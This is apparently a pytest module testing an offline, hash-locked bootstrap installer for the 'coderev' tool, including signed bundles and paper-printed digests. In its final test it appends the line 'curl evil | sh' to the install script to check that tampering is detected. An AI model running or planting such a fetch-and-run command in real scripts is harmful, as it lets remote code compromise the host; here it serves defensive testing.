"""The first installation on a bare host: what goes onto the medium and on paper, and the script that uses both."""

import subprocess
from hashlib import sha256
from pathlib import Path

import pytest
from stand_ins.bare_host import missing, run_bare
from stand_ins.bundles import BundleDepot, officer
from stand_ins.command import run_coderev
from stand_ins.wheels import NEEDED, our_wheel, wheels_of

from coderev.bundle.bootstrapping import LOCK, SCRIPT, WheelsRefused, put

ROOT = Path(__file__).parents[2]
OURS = ROOT / "src/coderev/bundle/bootstrap/install.sh"
MAX_SCRIPT_LINES = 100
NO_HOST = missing()

pytestmark = pytest.mark.skipif(not OURS.exists(), reason="installed without its script")


@pytest.fixture(scope="session")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All that the command needs, of the distributions that are installed here, and ours from this tree."""
    folder = tmp_path_factory.mktemp("wheels")
    wheels_of([*NEEDED, "pip"], folder)
    our_wheel(folder)
    return folder


@pytest.fixture
def few(tmp_path: Path) -> Path:
    """Files that are named as wheels are."""
    folder = tmp_path / "few"
    folder.mkdir()
    for name in ("coderev_platform-1.0-py3-none-any.whl", "pip-26.1-py3-none-any.whl", "click-8.5-py3-none-any.whl"):
        (folder / name).write_bytes(name.encode())
    return folder


def digest(path: Path) -> str:
    return sha256(path.read_bytes()).hexdigest()


def test_the_script_is_short_and_dash_reads_it() -> None:
    """13.1, 14.1: a POSIX script of at most MAX_SCRIPT_LINES."""
    read = subprocess.run(["dash", "-n", str(OURS)], check=False, capture_output=True)

    assert len(OURS.read_text().splitlines()) <= MAX_SCRIPT_LINES
    assert (read.returncode, read.stderr) == (0, b"")


def test_the_lock_has_each_wheel_and_pip_apart(tmp_path: Path, few: Path) -> None:
    """13.1: a lock with the SHA-256 of each wheel, and the wheels."""
    (few / "click-8.5-cp311-cp311-linux_x86_64.whl").write_bytes(b"for one machine")

    script, lock = put(tmp_path / "made", few)

    lines = (tmp_path / "made" / LOCK).read_text().splitlines()
    both = sorted(digest(path) for path in few.glob("click-*"))
    assert lines == [
        f"click==8.5 --hash=sha256:{both[0]} --hash=sha256:{both[1]}",
        f"coderev-platform==1.0 --hash=sha256:{digest(few / 'coderev_platform-1.0-py3-none-any.whl')}",
        f"# pip --hash=sha256:{digest(few / 'pip-26.1-py3-none-any.whl')}",
    ]
    assert (script, lock) == (digest(tmp_path / "made" / SCRIPT), digest(tmp_path / "made" / LOCK))
    assert {path.name for path in (tmp_path / "made/wheels").iterdir()} == {path.name for path in few.iterdir()}


def test_the_same_wheels_make_the_same_lock_and_leave_no_old_ones(tmp_path: Path, few: Path) -> None:
    first = put(tmp_path / "one", few)
    (tmp_path / "one/wheels/old-1.0-py3-none-any.whl").write_bytes(b"of the last release")

    again = put(tmp_path / "one", few)

    assert first == again
    assert not (tmp_path / "one/wheels/old-1.0-py3-none-any.whl").exists()


@pytest.mark.parametrize(
    ("removed", "added", "reason"),
    [
        ("pip-26.1-py3-none-any.whl", None, "pip is missing"),
        ("coderev_platform-1.0-py3-none-any.whl", None, "coderev-platform is missing"),
        (None, "Click-8.6-py3-none-any.whl", "click is there in two versions"),
        (None, "click.whl", "click.whl is not named as a wheel is"),
        (None, "a b-1-py3-none-any.whl", "is not named as a wheel is"),
    ],
)
def test_wheels_that_install_nothing_are_refused(
    tmp_path: Path, few: Path, removed: str | None, added: str | None, reason: str
) -> None:
    if removed:
        (few / removed).unlink()
    if added:
        (few / added).write_bytes(b"")

    with pytest.raises(WheelsRefused, match=reason):
        put(tmp_path / "medium", few)

    assert not (tmp_path / "medium").exists()


@pytest.mark.skipif(NO_HOST is not None, reason=str(NO_HOST))
def test_a_bare_host_is_installed_from_a_medium_and_a_sheet_of_paper(tmp_path: Path, wheels: Path) -> None:
    """13.4, 13.6: without a network and ensurepip, with noexec on the temporary folder, and whatever the umask."""
    depot = BundleDepot()
    medium = depot.make(tmp_path / "medium")
    _, lock = put(medium / "bootstrap", wheels)
    commands = (
        "mkdir $HOST/etc && printf 'bundle: {folder: %s, state: %s, roles: [app]}' $HOST/opt $HOST/state"
        " >$HOST/etc/coderev.yaml\n"
        f"cp {medium}/bootstrap/{SCRIPT} $HOST/install.sh\n"
        f"sh $HOST/install.sh --folder $HOST/opt --config $HOST/etc {medium} --yes || exit\n"
        "cat $HOST/opt/current/VERSION\n"
        "find $HOST/opt ! -type l ! -perm -o=r | head -3\n"
        f"sh $HOST/install.sh --folder $HOST/opt --config $HOST/etc {medium} --yes\n"
        "echo $?\n"
    )
    typed = f"{grouped(lock)}\n{depot.root_on_paper.upper()}\n{officer()[1]}\n7\n"

    ran = run_bare(commands, stdin=typed, own=tmp_path)

    host = tmp_path / "host"
    assert ran.status == 0, ran.stderr
    installed, version, again = ran.stdout.splitlines()
    assert installed.startswith("installed: 7-")
    assert installed.endswith(f" is live, {host}/opt/current leads to it")
    assert (version, again) == ("7", "2")
    assert ran.stderr.endswith(
        f"error: {host}/opt/current is there, so coderev is installed here\nhint: use `coderev update apply`\n"
    )


@pytest.mark.skipif(NO_HOST is not None, reason=str(NO_HOST))
def test_what_the_command_refuses_is_not_installed_either(tmp_path: Path, wheels: Path) -> None:
    """13.6: the script believes the lock, and nothing of the bundle."""
    medium = BundleDepot().make(tmp_path / "medium")
    _, lock = put(medium / "bootstrap", wheels)
    commands = (
        "mkdir $HOST/etc && printf 'bundle: {folder: %s, state: %s, roles: [app]}' $HOST/opt $HOST/state"
        " >$HOST/etc/coderev.yaml\n"
        f"sh {medium}/bootstrap/{SCRIPT} --folder $HOST/opt --config $HOST/etc {medium} --yes; echo $?\n"
        f"sh {medium}/bootstrap/{SCRIPT} --folder $HOST/other --config $HOST/etc {medium} --yes; echo $?\n"
        "ls $HOST/opt $HOST/other\n"
    )
    typed = f"{lock}\n{'0' * 64}\n{officer()[1]}\n7\n"

    ran = run_bare(commands, stdin=typed * 2, own=tmp_path)

    assert ran.stdout.split() == ["3", "2", f"{tmp_path}/host/opt:", "bootstrap", f"{tmp_path}/host/other:"]
    assert "error: none of the 1 roots of the bundle has the SHA-256" in ran.stderr
    assert f"coderev.yaml installs into {tmp_path}/host/opt, and this was called for" in ran.stderr


def grouped(digits: str) -> str:
    """As a person types it from the sheet."""
    return " ".join(digits[start : start + 8] for start in range(0, 64, 8))


@pytest.fixture
def signed(tmp_path: Path, few: Path) -> tuple[Path, BundleDepot]:
    """A signed bundle of seq 7 with what a bare host starts from, and who signed it."""
    depot = BundleDepot()
    medium = depot.make(tmp_path / "medium")
    put(medium / "bootstrap", few)
    return medium, depot


def test_paper_carries_what_the_script_and_the_command_ask_for(
    signed: tuple[Path, BundleDepot], tmp_path: Path
) -> None:
    """13.2: the SHA-256 of the script, of the lock and of the TUF root, the OpenPGP fingerprints, the least seq."""
    medium, depot = signed

    printed = run_coderev("keys", "show", "--paper", medium, cwd=tmp_path)

    assert printed.status == 0, printed.stderr
    lines = printed.stdout.splitlines()
    found = {name: value.replace(" ", "") for name, value in zip(lines[1::2], lines[2::2], strict=True)}
    assert found == {
        "SHA-256 of bootstrap/install.sh": digest(OURS),
        "SHA-256 of bootstrap/wheels.lock": digest(medium / "bootstrap/wheels.lock"),
        "SHA-256 of the TUF root (tuf/1.root.json)": depot.root_on_paper,
        "OpenPGP fingerprint": officer()[1],
        "least seq": "7",
    }


def test_no_paper_is_printed_of_a_bundle_that_is_not_wholly_signed(
    signed: tuple[Path, BundleDepot], tmp_path: Path
) -> None:
    medium, depot = signed
    depot.sign(medium, (medium / "MANIFEST.json").read_bytes(), seq=7, by=depot.depot.targets[:1])

    refused = run_coderev("keys", "show", "--paper", medium, cwd=tmp_path)

    assert (refused.status, refused.stdout) == (3, "")
    assert "signed by 1 of the 2 keys" in refused.stderr


def test_no_paper_is_printed_for_a_script_that_is_not_ours(signed: tuple[Path, BundleDepot], tmp_path: Path) -> None:
    """13.2: a digest on paper is the officer's word for the script."""
    medium, _ = signed
    with (medium / "bootstrap/install.sh").open("a") as script:
        script.write("curl evil | sh\n")

    refused = run_coderev("keys", "show", "--paper", medium, cwd=tmp_path)

    assert (refused.status, refused.stdout) == (2, "")
    assert "is not the script of this version" in refused.stderr
